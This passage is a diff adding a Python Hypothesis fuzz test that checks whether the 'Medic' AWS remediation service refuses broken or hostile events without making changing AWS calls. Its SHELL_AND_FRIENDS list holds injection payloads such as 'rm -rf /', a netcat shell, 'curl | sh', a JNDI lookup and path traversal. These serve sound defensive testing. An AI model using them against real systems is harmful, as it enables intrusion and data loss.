@@ -1,0 +1,732 @@
+"""Property: whatever reaches Medic's edges (malformed, oversized, wrong-typed, hostile or plain random
+JSON) gets one well-formed `rejected` or `ignored` record, never an exception that would loop through
+retries, and never an AWS call that changes anything: the run-time mode read is the only call allowed.
+
+Events start from the real samples in tests/fixtures/events/ and are broken on purpose. What counts as
+broken is written here from the AWS formats, independently of Medic's models, so a model that lets a
+hostile value through fails the property instead of being used as its own oracle.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import re
+import threading
+import unicodedata
+import uuid
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from datetime import UTC, datetime
+from typing import Any
+
+import boto3
+import pytest
+from aws_lambda_powertools.utilities.parser.models import DynamoDBStreamRecordModel
+from botocore.exceptions import ClientError
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from medic.adapters.checkpoints import Checkpoints
+from medic.adapters.hyperpod import HyperPod
+from medic.adapters.metrics import TrainingMetrics
+from medic.adapters.mode import ModeSwitch
+from medic.adapters.pager import Pager
+from medic.adapters.slurm_queue import SlurmQueues
+from medic.adapters.training import TrainingJobs
+from medic.alarm_response import respond_to_alarm
+from medic.config import parse_config
+from medic.deps import Deps
+from medic.domain.alarms import AlarmStateChangeEvent
+from medic.domain.models import NodeHealthEvent, RemediationRecord, TrainingJobStateEvent
+from medic.domain.slurm import RequeueJobEvent
+from medic.handlers import agent_results, alarm, node_health, requeue_request, training_job
+from medic.job_restart import restart_training_job
+from medic.ledger import Ledger
+from medic.node_remediation import remediate_node
+from medic.slurm_requeue import handle_requeue_event, record_agent_result
+from tests.functional.conftest import CLUSTER, CONFIG, MODE_PARAMETER, REGION, TABLE, Medic, medic_world
+from tests.helpers import load_event
+
+EXAMPLES = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
+                                                                              HealthCheck.too_slow,
+                                                                              HealthCheck.data_too_large])
+FEWER = settings(EXAMPLES, max_examples=60)
+NOW = datetime(2026, 11, 21, 3, 10, 30, tzinfo=UTC)
+JOB = "llama3-70b"
+FUZZ_CONFIG = {**CONFIG, "jobs": [{"name": JOB, "cluster": CLUSTER}]}
+RECORD_FIELDS = frozenset(RemediationRecord.model_fields)
+MODE_READ = ("ssm", "GetParameter")
+
+
+# --- every AWS call the handlers' clients make, checked as it happens
+
+
+class ForbiddenCall(AssertionError):
+    """An AWS call the property does not allow (raised inside the call, and remembered for the assertion)."""
+
+
+class CallLog:
+    """Hooks botocore's before-parameter-build on each client: records (service, operation, API parameters),
+    refuses what is not allowed, and can fail chosen calls with a ClientError (fault injection)."""
+
+    def __init__(self) -> None:
+        self.calls: list[tuple[str, str, dict]] = []
+        self.forbidden: list[str] = []
+        self.allow: Callable[[str, str, dict], bool] = lambda service, operation, params: (
+            (service, operation) == MODE_READ)
+        self.fail: Callable[[str, str, dict], str | None] = lambda service, operation, params: None
+        self._lock = threading.Lock()
+
+    def watch(self, client: Any) -> Any:
+        client.meta.events.register("before-parameter-build", self._before_call, unique_id=f"calllog-{id(self)}")
+        return client
+
+    def reset(self) -> None:
+        with self._lock:
+            self.calls.clear()
+            self.forbidden.clear()
+
+    def _before_call(self, model: Any, params: dict, **_: Any) -> None:
+        service, operation = model.service_model.service_name, model.name
+        with self._lock:
+            self.calls.append((service, operation, params))
+        if not self.allow(service, operation, params):
+            message = f"{service}:{operation} {json.dumps(params, default=str)[:300]}"
+            with self._lock:
+                self.forbidden.append(message)
+            raise ForbiddenCall(message)
+        code = self.fail(service, operation, params)
+        if code:
+            raise ClientError({"Error": {"Code": code, "Message": "injected by the test"}}, operation)
+
+    def operations(self) -> list[tuple[str, str]]:
+        return [(service, operation) for service, operation, _ in self.calls]
+
+
+class FuzzWorld:
+    def __init__(self, medic: Medic, calls: CallLog, deps: Deps) -> None:
+        self.medic, self.calls, self.deps = medic, calls, deps
+
+    def __repr__(self) -> str:  # hypothesis prints the fixtures of a failing example
+        return "FuzzWorld(moto)"
+
+    def run(self, entry: Callable[[Any, Deps], Any], raw: Any) -> tuple[Any, list[dict]]:
+        """One invocation: its result and the remediation lines it logged."""
+        self.calls.reset()
+        before = len(self.medic.log.lines)
+        result = entry(raw, self.deps)
+        return result, self.medic.log.lines[before:]
+
+
+def guarded_deps(medic: Medic, calls: CallLog) -> Deps:
+    """The deployment's adapters, each on its own watched moto client (none on the Stubber)."""
+
+    def client(name: str) -> Any:
+        return calls.watch(boto3.client(name, region_name=REGION))
+
+    queue_url = medic.sqs.create_queue(QueueName=f"medic-agent-{CLUSTER}")["QueueUrl"]
+    config = medic.deps.config
+    return Deps(config=config, hyperpod=HyperPod(client("sagemaker")), ledger=Ledger(TABLE, client("dynamodb")),
+                pager=Pager(medic.deps.pager.topic_arn, client("sns")),
+                mode=ModeSwitch(MODE_PARAMETER, config.mode, client("ssm")), region=REGION, now=lambda: NOW,
+                training=TrainingJobs(client("sagemaker")), checkpoints=Checkpoints(client("s3")),
+                metrics=TrainingMetrics(client("cloudwatch")),
+                slurm=SlurmQueues({CLUSTER: queue_url}, client("sqs")))
+
+
+@pytest.fixture
+def world(aws_credentials: None) -> Iterator[FuzzWorld]:
+    """One moto world per test function, reused by every example of its property."""
+    for medic in medic_world(parse_config(FUZZ_CONFIG)):
+        # A live agent: a requeue that slipped through validation would reach SendMessage (and fail the test).
+        medic.deps.ledger.client.put_item(TableName=TABLE, Item={
+            "pk": {"S": f"agent#{CLUSTER}"}, "sk": {"S": "heartbeat"}, "at": {"S": NOW.isoformat()}})
+        calls = CallLog()
+        yield FuzzWorld(medic, calls, guarded_deps(medic, calls))
+
+
+# --- what a refusal must look like
+
+
+def assert_refused(world: FuzzWorld, record: Any, lines: list[dict], outcomes: tuple[str, ...] = ("rejected",)) -> None:
+    assert isinstance(record, dict), record
+    assert set(record) == RECORD_FIELDS
+    RemediationRecord.model_validate(record)
+    assert record["outcome"] in outcomes, record
+    assert (record["action"], record["paged"], record["attempt"]) == ("none", False, 0), record
+    if record["outcome"] == "rejected":
+        assert record["fault"] == "invalid"
+        assert record["incident"] == f"event:{record['event_id']}"
+        assert len(record["event_id"]) <= 80 and len(record["reason"]) <= 500
+    assert not world.calls.forbidden, world.calls.forbidden
+    assert set(world.calls.operations()) <= {MODE_READ}, world.calls.operations()
+    # Exactly one remediation line, the record itself, and one CloudWatch can store (UTF-8).
+    assert len(lines) == 1, lines
+    assert {key: lines[0][key] for key in record} == record
+    json.dumps(lines[0], ensure_ascii=False).encode("utf-8")
+
+
+# --- values: hostile, oversized, wrong-typed
+
+SHELL_AND_FRIENDS = [
+    "; rm -rf /", "$(reboot)", "`id`", "| nc 10.0.0.1 4444", "&& curl http://x | sh", "i-0d4e5f60718293a4b; reboot",
+    "i-0d4e5f60718293a4b\n", "\ni-0d4e5f60718293a4b", " i-0d4e5f60718293a4b", "I-0D4E5F60718293A4B", "i-0d4e5f6",
+    "pretrain-slurm\x00", "pretrain-slurm\n", "pretrain slurm", "-pretrain", "4211\n", "4211 ", "-1", "42.11", "1e3",
+    "../../../etc/passwd", "' OR '1'='1", '{"$ne": null}', "${jndi:ldap://10.0.0.1/a}", "{{7*7}}", "%s%s%n",
+    "\u202eexe.txt", "\u200b", "\ufeffpretrain-slurm", "pretrain\u2010slurm", "\uff14\uff12\uff11\uff11",
+    "pretrain-\u0455lurm", "\U0001f600", "\\", "\t", "", " ", "null", "None", "true", "NaN", "-", "--",
+    "arn:aws:sagemaker:us-west-2:123456789012:cluster/k3v9q2w8x1za; reboot",
+    "arn:aws:sagemaker:us-west-2:123456789012:training-job/", "medic-stall-llama3-70b\n", "ALARM ", "alarm",
+    "command#", "command#-x", "command#a b", "executed\n", "EXECUTED",
+]
+LENGTHS = [64, 65, 129, 256, 257, 1025, 2001, 4097, 70_000, 300_000]
+
+
+def huge_strings() -> st.SearchStrategy[str]:
+    return st.builds(lambda unit, length: (unit * length)[:length],
+                     st.sampled_from(["a", "9", "-", "\u00e9", "\U0001f600", "; ", "i-0"]), st.sampled_from(LENGTHS))
+
+
+def deep(depth: int, leaf: Any) -> Any:
+    for index in range(depth):
+        leaf = [leaf] if index % 2 else {"a": leaf}
+    return leaf
+
+
+JSON_LEAVES = st.one_of(st.none(), st.booleans(), st.integers(min_value=-(10**30), max_value=10**30),
+                        st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=40))
+JSON = st.recursive(JSON_LEAVES, lambda children: st.one_of(
+    st.lists(children, max_size=4), st.dictionaries(st.text(max_size=12), children, max_size=4)), max_leaves=20)
+HOSTILE_STRINGS = st.one_of(st.sampled_from(SHELL_AND_FRIENDS), st.text(max_size=80), huge_strings())
+WRONG_TYPES = st.one_of(
+    st.none(), st.booleans(), st.integers(min_value=-(10**30), max_value=10**30),
+    st.floats(allow_nan=True, allow_infinity=True), st.lists(JSON, max_size=3),
+    st.dictionaries(st.text(max_size=12), JSON, max_size=3),
+    st.builds(deep, st.integers(min_value=50, max_value=400), JSON_LEAVES))
+
+
+def has_unicode_digit(value: Any) -> bool:
+    return isinstance(value, str) and any(not ch.isascii() and unicodedata.category(ch) == "Nd" for ch in value)
+
+
+# --- the formats, from the AWS documentation (ASCII: `\d` and `$` are not used on purpose)
+
+
+def full(pattern: str, lo: int = 0, hi: int = 10**9) -> Callable[[Any], bool]:
+    compiled = re.compile(pattern, re.ASCII)
+    return lambda value: isinstance(value, str) and lo <= len(value) <= hi and compiled.fullmatch(value) is not None
+
+
+def text(lo: int = 0, hi: int = 10**9, optional: bool = False) -> Callable[[Any], bool]:
+    return lambda value: (optional and value is None) or (isinstance(value, str) and lo <= len(value) <= hi)
+
+
+def is_dict(value: Any) -> bool:
+    return isinstance(value, dict)
+
+
+def one_of(*values: str) -> Callable[[Any], bool]:
+    return lambda value: isinstance(value, str) and value in values
+
+
+def str_list(value: Any) -> bool:
+    return isinstance(value, list) and all(isinstance(item, str) for item in value)
+
+
+def a_time(value: Any) -> bool:
+    """Conservative: a number or any string with a digit might be a time; only the rest surely is not."""
+    return (isinstance(value, int | float) and not isinstance(value, bool)) or (
+        isinstance(value, str) and any(ch.isdigit() for ch in value))
+
+
+def str_map_or_none(value: Any) -> bool:
+    return value is None or (isinstance(value, dict) and all(isinstance(v, str) for v in value.values()))
+
+
+CLUSTER_NAME = r"[a-zA-Z0-9](-*[a-zA-Z0-9]){0,62}"
+INSTANCE_ID = r"i-[0-9a-f]{8}([0-9a-f]{9})?"
+CLUSTER_ARN = r"arn:aws[a-z-]*:sagemaker:[a-z0-9-]+:[0-9]{12}:cluster/[a-zA-Z0-9-]{1,63}"
+JOB_NAME = r"[a-zA-Z0-9](-*[a-zA-Z0-9]){0,62}"
+JOB_ARN = r"arn:aws[a-z-]*:sagemaker:[a-z0-9-]+:[0-9]{12}:training-job/.{1,63}"
+
+
+@dataclass(frozen=True)
+class Spec:
+    """One field of an event: where it is, what valid looks like, and whether it may be absent."""
+
+    path: tuple[str, ...]
+    valid: Callable[[Any], bool]
+    optional: bool = False
+    ascii_digits: bool = False  # Unicode digits are covered by their own (xfail) test, not by the property
+
+
+def envelope(source: Callable[[Any], bool] | None = None,
+             detail_type: Callable[[Any], bool] | None = None) -> list[Spec]:
+    source, detail_type = source or text(), detail_type or text()
+    return [Spec(("version",), text()), Spec(("id",), text()), Spec(("source",), source),
+            Spec(("account",), text()), Spec(("time",), a_time), Spec(("region",), text()),
+            Spec(("resources",), str_list), Spec(("detail-type",), detail_type), Spec(("detail",), is_dict)]
+
+
+NODE_SPECS = [*envelope(), Spec(("detail", "ClusterName"), full(CLUSTER_NAME)),
+              Spec(("detail", "ClusterArn"), full(CLUSTER_ARN), ascii_digits=True),
+              Spec(("detail", "InstanceId"), full(INSTANCE_ID)), Spec(("detail", "HealthSummary"), is_dict),
+              Spec(("detail", "HealthSummary", "HealthStatus"), text(1, 64)),
+              Spec(("detail", "HealthSummary", "HealthStatusReason"), text(0, 4096), optional=True),
+              Spec(("detail", "HealthSummary", "RepairAction"), text(0, 256, optional=True), optional=True),
+              Spec(("detail", "HealthSummary", "Recommendation"), text(0, 1024, optional=True), optional=True)]
+JOB_SPECS = [*envelope(), Spec(("detail", "TrainingJobName"), full(JOB_NAME)),
+             Spec(("detail", "TrainingJobArn"), full(JOB_ARN), ascii_digits=True),
+             Spec(("detail", "TrainingJobStatus"), text(1, 32)),
+             Spec(("detail", "FailureReason"), text(0, 4096), optional=True),
+             Spec(("detail", "Tags"), str_map_or_none, optional=True)]
+ALARM_STATE = r"OK|ALARM|INSUFFICIENT_DATA"
+ALARM_TIMESTAMP = r"[0-9T:.+Z-]+"
+ALARM_SPECS = [*envelope(), Spec(("detail", "alarmName"), full(r"[A-Za-z0-9._-]+", 1, 255)),
+               Spec(("detail", "state"), is_dict), Spec(("detail", "state", "value"), full(ALARM_STATE)),
+               Spec(("detail", "state", "reason"), text(0, 4096), optional=True),
+               Spec(("detail", "state", "timestamp"), full(ALARM_TIMESTAMP, 1, 64)),
+               Spec(("detail", "previousState"), lambda value: value is None or is_dict(value), optional=True),
+               Spec(("detail", "previousState", "value"), full(ALARM_STATE)),
+               Spec(("detail", "previousState", "timestamp"), full(ALARM_TIMESTAMP, 1, 64))]
+REQUEUE_SPECS = [*envelope(one_of("medic.operator"), one_of("Medic Requeue Job")),
+                 Spec(("detail", "cluster"), full(CLUSTER_NAME)),
+                 # the sample names the job by id: without it (or with a bad one) there is no valid target
+                 Spec(("detail", "job_id"), full(r"[0-9]{1,10}")),
+                 Spec(("detail", "job_name"), lambda value: value is None or full(r"[A-Za-z0-9._-]{1,128}")(value),
+                      optional=True),
+                 Spec(("detail", "reason"), text(1, 2000))]
+KNOWN_NAMES = frozenset({"version", "id", "source", "account", "time", "region", "resources", "detail-type",
+                         "detail_type", "detail", "replay-name", "replay_name"}
+                        | {spec.path[-1] for specs in (NODE_SPECS, JOB_SPECS, ALARM_SPECS, REQUEUE_SPECS)
+                           for spec in specs})
+DELETE = object()
+
+
+def breaking(spec: Spec) -> st.SearchStrategy[Any]:
+    """A value (or DELETE) that makes the field invalid by the format above."""
+    values = st.one_of(WRONG_TYPES, HOSTILE_STRINGS).filter(lambda value: not spec.valid(value))
+    if spec.ascii_digits:
+        values = values.filter(lambda value: not has_unicode_digit(value))
+    return values if spec.optional else st.one_of(st.just(DELETE), values)
+
+
+def junk_keys() -> st.SearchStrategy[str]:
+    return st.one_of(st.sampled_from(["__proto__", "constructor", "$where", "; rm -rf /", "", "\u0000", "Tags "]),
+                     st.text(max_size=20)).filter(lambda key: key not in KNOWN_NAMES)
+
+
+def node_at(event: Any, path: tuple[str, ...]) -> dict | None:
+    for key in path:
+        if not isinstance(event, dict) or not isinstance(event.get(key), dict):
+            return None
+        event = event[key]
+    return event if isinstance(event, dict) else None
+
+
+@st.composite
+def broken(draw: st.DrawFn, sample: dict, specs: list[Spec]) -> dict:
+    """The sample with 1-3 fields made invalid, then junk keys added anywhere (junk never repairs a field)."""
+    event = copy.deepcopy(sample)
+    for spec in draw(st.lists(st.sampled_from(specs), min_size=1, max_size=3, unique_by=lambda s: s.path)):
+        parent = node_at(event, spec.path[:-1])
+        if parent is None:  # an ancestor was already broken (not a dict any more)
+            continue
+        value = draw(breaking(spec))
+        if value is DELETE:
+            parent.pop(spec.path[-1], None)
+        else:
+            parent[spec.path[-1]] = value
+    containers = [(), ("detail",), *{spec.path[:-1] for spec in specs if len(spec.path) > 2}]
+    for where, key, value in draw(st.lists(st.tuples(st.sampled_from(containers), junk_keys(), JSON), max_size=3)):
+        parent = node_at(event, where) if where else event
+        if parent is not None and key not in parent:
+            parent[key] = value
+    return event
+
+
+def random_json() -> st.SearchStrategy[Any]:
+    """Anything JSON can carry at the top level, plus dicts that look a bit like an envelope."""
+    envelope_ish = st.fixed_dictionaries({}, optional={
+        "version": JSON, "id": JSON, "source": JSON, "detail-type": JSON, "time": JSON, "detail": JSON,
+        "resources": JSON, "account": JSON, "region": JSON})
+    return st.one_of(JSON, envelope_ish, st.builds(deep, st.integers(min_value=50, max_value=400), JSON_LEAVES))
+
+
+NODE_SAMPLE = load_event("hyperpod-node-health-unhealthy")
+JOB_SAMPLE = load_event("training-job-failed")
+ALARM_SAMPLE = load_event("cloudwatch-alarm-state-change")
+REQUEUE_SAMPLE = load_event("medic-requeue-job")
+STREAM_SAMPLE = load_event("ledger-stream-agent-result")
+
+
+def test_the_samples_are_valid_by_both_the_formats_here_and_medics_models():
+    """The oracle's baseline: unbroken, every sample passes (so breaking it is what gets it refused)."""
+    for model, sample, specs in ((NodeHealthEvent, NODE_SAMPLE, NODE_SPECS),
+                                 (TrainingJobStateEvent, JOB_SAMPLE, JOB_SPECS),
+                                 (AlarmStateChangeEvent, ALARM_SAMPLE, ALARM_SPECS),
+                                 (RequeueJobEvent, REQUEUE_SAMPLE, REQUEUE_SPECS)):
+        model.model_validate(sample)
+        for spec in specs:
+            value: Any = sample
+            for key in spec.path:
+                value = value.get(key, DELETE) if isinstance(value, dict) else DELETE
+            assert (value is DELETE and spec.optional) or spec.valid(value), spec.path
+
+
+# --- the four EventBridge use cases
+
+
+@EXAMPLES
+@given(event=broken(NODE_SAMPLE, NODE_SPECS))
+def test_node_health_refuses_broken_events(world, event):
+    assert_refused(world, *world.run(remediate_node, event))
+
+
+@EXAMPLES
+@given(event=broken(JOB_SAMPLE, JOB_SPECS))
+def test_training_job_refuses_broken_events(world, event):
+    assert_refused(world, *world.run(restart_training_job, event))
+
+
+@EXAMPLES
+@given(event=broken(ALARM_SAMPLE, ALARM_SPECS))
+def test_alarm_refuses_broken_events(world, event):
+    assert_refused(world, *world.run(respond_to_alarm, event))
+
+
+@EXAMPLES
+@given(event=broken(REQUEUE_SAMPLE, REQUEUE_SPECS))
+def test_requeue_request_refuses_broken_events(world, event):
+    assert_refused(world, *world.run(handle_requeue_event, event))
+
+
+ENTRIES = [remediate_node, restart_training_job, respond_to_alarm, handle_requeue_event]
+
+
+@EXAMPLES
+@given(raw=random_json(), entry=st.sampled_from(ENTRIES))
+def test_random_json_is_rejected_by_every_use_case(world, raw, entry):
+    assert_refused(world, *world.run(entry, raw))
+
+
+# --- valid events about things Medic does not manage: ignored, with hostile free text riding along
+
+
+def free_text(limit: int) -> st.SearchStrategy[str]:
+    return st.one_of(st.sampled_from(SHELL_AND_FRIENDS), st.text(max_size=200), huge_strings()).map(
+        lambda value: value[:limit])
+
+
+def names(pattern: str) -> st.SearchStrategy[str]:
+    return st.from_regex(re.compile(pattern, re.ASCII), fullmatch=True)
+
+
+event_ids = st.text(max_size=100)
+
+
+@st.composite
+def unmanaged_node_events(draw: st.DrawFn) -> dict:
+    event = copy.deepcopy(NODE_SAMPLE)
+    configured = {cluster["name"] for cluster in FUZZ_CONFIG["clusters"]}
+    event["id"] = draw(event_ids)
+    event["detail"]["ClusterName"] = draw(names(CLUSTER_NAME).filter(lambda name: name not in configured))
+    event["detail"]["InstanceId"] = draw(names(INSTANCE_ID))
+    summary = event["detail"]["HealthSummary"]
+    summary["HealthStatus"] = draw(free_text(64).filter(lambda value: len(value) >= 1))
+    summary["HealthStatusReason"] = draw(free_text(4096))
+    return event
+
+
+@st.composite
+def unmanaged_job_events(draw: st.DrawFn) -> dict:
+    event = copy.deepcopy(JOB_SAMPLE)
+    name = draw(names(JOB_NAME).filter(lambda value: len(value) <= 63 and not value.startswith("ft-")))
+    event["id"] = draw(event_ids)
+    event["detail"].update(TrainingJobName=name, FailureReason=draw(free_text(4096)),
+                           TrainingJobArn=f"arn:aws:sagemaker:{REGION}:123456789012:training-job/{name}",
+                           TrainingJobStatus=draw(st.sampled_from(["Failed", "Stopped", "Completed", "InProgress"])))
+    return event
+
+
+@st.composite
+def unmanaged_alarm_events(draw: st.DrawFn) -> dict:
+    event = copy.deepcopy(ALARM_SAMPLE)
+    name = draw(st.one_of(
+        names(r"[A-Za-z0-9._-]{1,255}"),
+        st.builds("medic-{}-{}".format, st.sampled_from(["stall", "divergence", "slowdown", "failed-nodes", "x"]),
+                  names(r"[A-Za-z0-9._-]{1,60}"))).filter(lambda value: value not in (
+                      f"medic-stall-{JOB}", f"medic-divergence-{JOB}", f"medic-slowdown-{JOB}",
+                      f"medic-failed-nodes-{CLUSTER}", "medic-failed-nodes-finetune-eks")))
+    event["id"] = draw(event_ids)
+    event["detail"]["alarmName"] = name
+    event["detail"]["state"]["value"] = draw(st.sampled_from(["OK", "ALARM", "INSUFFICIENT_DATA"]))
+    event["detail"]["state"]["reason"] = draw(free_text(4096))
+    return event
+
+
+@EXAMPLES
+@given(event=st.one_of(unmanaged_node_events().map(lambda e: (remediate_node, e)),
+                       unmanaged_job_events().map(lambda e: (restart_training_job, e)),
+                       unmanaged_alarm_events().map(lambda e: (respond_to_alarm, e))))
+def test_valid_events_about_unmanaged_things_are_ignored_without_a_call(world, event):
+    entry, raw = event
+    record, lines = world.run(entry, raw)
+    assert_refused(world, record, lines, outcomes=("ignored",))
+    assert record["event_id"] == raw["id"]
+
+
+# --- the Lambda entry points themselves, wired from their module's dependencies()
+
+
+@dataclass
+class LambdaContext:
+    function_name: str = "medic-fuzz"
+    memory_limit_in_mb: int = 256
+    invoked_function_arn: str = f"arn:aws:lambda:{REGION}:123456789012:function:medic-fuzz"
+    aws_request_id: str = "00000000-0000-0000-0000-00000000f022"
+
+
+HANDLERS = {node_health: NODE_SAMPLE, training_job: JOB_SAMPLE, alarm: ALARM_SAMPLE,
+            requeue_request: REQUEUE_SAMPLE}
+SPECS = {node_health: NODE_SPECS, training_job: JOB_SPECS, alarm: ALARM_SPECS, requeue_request: REQUEUE_SPECS}
+
+
+@pytest.fixture
+def wired(world, monkeypatch) -> FuzzWorld:
+    for module in HANDLERS:
+        monkeypatch.setattr(module, "dependencies", lambda: world.deps)
+    return world
+
+
+@FEWER
+@given(case=st.sampled_from(list(HANDLERS)).flatmap(
+    lambda module: st.tuples(st.just(module), st.one_of(broken(HANDLERS[module], SPECS[module]), random_json()))))
+def test_the_lambda_handlers_refuse_what_their_use_cases_refuse(wired, case):
+    module, raw = case
+    record, lines = wired.run(lambda event, deps: module.handler(event, LambdaContext()), raw)
+    assert_refused(wired, record, lines)
+
+
+# --- the agent results (the ledger's stream): one record function, one batch handler
+
+RESULT_RECORD = STREAM_SAMPLE["Records"][1]
+SKIPPED_RECORDS = [STREAM_SAMPLE["Records"][i] for i in (0, 2, 3)]  # a claim, a heartbeat, a TTL delete
+COMMAND_ID = r"[A-Za-z0-9][A-Za-z0-9-]{0,63}"
+DDB_WRONG = st.one_of(st.builds(lambda n: {"N": str(n)}, st.integers(-(10**37), 10**37)),  # DynamoDB: 38 digits
+                      st.builds(lambda b: {"BOOL": b}, st.booleans()), st.just({"NULL": True}),
+                      st.just({"L": [{"N": "1"}]}), st.just({"M": {"a": {"S": "b"}}}), st.just({"NS": ["1", "2"]}))
+RESULT_SPECS = {  # NewImage attribute → what the agent writes (agent/medic_agent/ledger.py)
+    "status": lambda value: value in ({"S": "executed"}, {"S": "failed"}, {"S": "refused"}),
+    "message": lambda value: "S" in value, "cluster": lambda value: "S" in value, "kind": lambda value: "S" in value,
+    "target": lambda value: "S" in value, "incident": lambda value: "S" in value,
+    "finished_at": lambda value: "S" in value,
+    "job_ids": lambda value: "SS" in value or ("L" in value and all("S" in item for item in value["L"])),
+}
+
+
+def stream_record(command_key: str, image: dict, sequence: str, event_name: str = "INSERT") -> dict:
+    record = copy.deepcopy(RESULT_RECORD)
+    record["eventID"] = uuid.uuid4().hex
+    record["eventName"] = event_name
+    change = record["dynamodb"]
+    change["Keys"] = {"pk": {"S": command_key}, "sk": {"S": "result"}}
+    change["NewImage"] = {**image, "pk": {"S": command_key}, "sk": {"S": "result"}}
+    change["SequenceNumber"] = sequence
+    return record
+
+
+@st.composite
+def broken_results(draw: st.DrawFn, sequence: str = "1") -> dict:
+    """A `command#<id>/result` item as DynamoDB streams it (keys are strings, as the table's schema makes them)
+    whose content the agent could not have written: a bad command id, status or attribute type."""
+    image = copy.deepcopy(RESULT_RECORD["dynamodb"]["NewImage"])
+    command = str(uuid.UUID(int=draw(st.integers(min_value=0, max_value=2**128 - 1))))
+    bad_id = st.one_of(st.sampled_from(SHELL_AND_FRIENDS), st.text(max_size=80), huge_strings().map(lambda s: s[:1000]))
+    broken_id = draw(st.booleans())
+    if broken_id:
+        command = draw(bad_id.filter(lambda value: not re.fullmatch(COMMAND_ID, value, re.ASCII)
+                                     and len(f"command#{value}".encode(errors="surrogatepass")) <= 2048))
+    bad_attributes = draw(st.lists(st.sampled_from(sorted(RESULT_SPECS)), min_size=0 if broken_id else 1,
+                                   max_size=3, unique=True))
+    for name in bad_attributes:
+        options = DDB_WRONG if name != "status" else st.one_of(DDB_WRONG, HOSTILE_STRINGS.map(lambda s: {"S": s}))
+        image[name] = draw(options.filter(lambda value, name=name: not RESULT_SPECS[name](value)))
+    return stream_record(f"command#{command}", image, sequence)
+
+
+def forget_claims(world: FuzzWorld, records: list[dict]) -> None:
+    """Hypothesis repeats command ids across examples: each example starts with no result recorded."""
+    for record in records:
+        world.medic.deps.ledger.client.delete_item(TableName=TABLE, Key={
+            "pk": record["dynamodb"]["Keys"]["pk"], "sk": {"S": "recorded"}})
+
+
+def claims_only(service: str, operation: str, params: dict) -> bool:
+    """What recording a bad result may do: read the mode, read a command's context, claim its record."""
+    if (service, operation) in (MODE_READ, ("dynamodb", "GetItem")):
+        return True
+    if (service, operation) != ("dynamodb", "PutItem"):
+        return False
+    item = params.get("Item", {})
+    return item.get("pk", {}).get("S", "").startswith("command#") and item.get("sk", {}).get("S") == "recorded"
+
+
+@EXAMPLES
+@given(raw=st.one_of(broken_results(), st.sampled_from(SKIPPED_RECORDS)))
+def test_an_agent_result_medic_cannot_use_is_rejected_once_never_paged(world, raw):
+    world.calls.allow = claims_only
+    forget_claims(world, [raw])
+    record = DynamoDBStreamRecordModel.model_validate(raw)
+    result, lines = world.run(record_agent_result, record)
+    if raw in SKIPPED_RECORDS:  # not a result: nothing recorded, nothing called
+        assert (result, lines, world.calls.operations()) == (None, [], [])
+        return
+    assert not world.calls.forbidden, world.calls.forbidden
+    assert isinstance(result, dict) and set(result) == RECORD_FIELDS
+    assert (result["outcome"], result["fault"], result["action"], result["paged"]) == (
+        "rejected", "invalid", "none", False)
+    assert result["incident"].startswith("command:") and len(result["incident"]) <= 88
+    assert lines and {key: lines[-1][key] for key in result} == result
+    json.dumps(lines[-1], ensure_ascii=False).encode("utf-8")
+    # A redelivery of the same stream record writes nothing more.
+    again, more = world.run(record_agent_result, record)
+    assert (again, more) == (None, [])
+
+
+@dataclass
+class ResultsContext:
+    function_name: str = "medic-agent-results"
+    memory_limit_in_mb: int = 256
+    invoked_function_arn: str = f"arn:aws:lambda:{REGION}:123456789012:function:medic-agent-results"
+    aws_request_id: str = "00000000-0000-0000-0000-00000000f023"
+
+
+@st.composite
+def batches(draw: st.DrawFn) -> tuple[dict, set[str]]:
+    """1-10 stream records (bad results and records to skip); some bad results meet a throttled ledger.
+    At least one record goes through (when every record fails Powertools raises for the whole batch, by design)."""
+    size = draw(st.integers(min_value=1, max_value=10))
+    records, throttled, commands = [], set(), set()
+    for index in range(size):
+        sequence = f"{4421584500000000000000000000 + index}"
+        record = draw(broken_results(sequence)) if draw(st.booleans()) else None
+        if record is None or record["dynamodb"]["Keys"]["pk"]["S"] in commands:  # one result per command
+            record = copy.deepcopy(draw(st.sampled_from(SKIPPED_RECORDS)))
+            record["dynamodb"]["SequenceNumber"] = sequence
+        else:
+            commands.add(record["dynamodb"]["Keys"]["pk"]["S"])
+            if index > 0 and draw(st.booleans()):
+                throttled.add(sequence)
+        records.append(record)
+    return {"Records": records}, throttled
+
+
+@EXAMPLES
+@given(batch=batches())
+def test_the_agent_results_batch_reports_exactly_the_records_to_retry(world, monkeypatch, batch):
+    event, throttled = batch
+    monkeypatch.setattr(agent_results, "dependencies", lambda: world.deps)
+    forget_claims(world, event["Records"])
+    keys = {record["dynamodb"]["Keys"]["pk"]["S"]: record["dynamodb"]["SequenceNumber"]
+            for record in event["Records"] if record["dynamodb"]["Keys"]["sk"]["S"] == "result"}
+    world.calls.allow = claims_only
+    world.calls.fail = lambda service, operation, params: "ProvisionedThroughputExceededException" if (
+        operation == "PutItem" and keys.get(params["Item"]["pk"]["S"]) in throttled) else None
+    try:
+        response, _ = world.run(lambda raw, deps: agent_results.handler(raw, ResultsContext()), event)
+    finally:
+        world.calls.fail = lambda service, operation, params: None
+    assert not world.calls.forbidden, world.calls.forbidden
+    assert isinstance(response, dict) and set(response) == {"batchItemFailures"}
+    assert [item["itemIdentifier"] for item in response["batchItemFailures"]] == [
+        record["dynamodb"]["SequenceNumber"] for record in event["Records"]
+        if record["dynamodb"]["SequenceNumber"] in throttled]
+    assert not any(service in ("sns", "sqs") for service, _ in world.calls.operations())
+
+
+# --- what the properties found: each test names the bug and fails until it is fixed
+
+
+@pytest.mark.xfail(strict=True, raises=ClientError, reason=(
+    "BUG: the envelope's `id` has no length limit; handle_requeue_event (and the alarm's requeue) claims "
+    "`request#operator#<id>` in the ledger, and an id over ~2 KB makes DynamoDB's PutItem fail with "
+    "ValidationException (hash key > 2048 bytes), which propagates out of the handler (retried, then DLQ) "
+    "instead of a `rejected` record. Fix: bound `id` in RequeueJobEvent (EventBridge ids are 36-char UUIDs)."))
+def test_an_oversized_event_id_on_a_requeue_request_is_rejected(world):
+    world.calls.allow = lambda service, operation, params: service != "sqs"
+    event = copy.deepcopy(REQUEUE_SAMPLE)
+    event["id"] = "x" * 5000
+    record, _ = world.run(handle_requeue_event, event)
+    assert record["outcome"] == "rejected"
+
+
+@pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
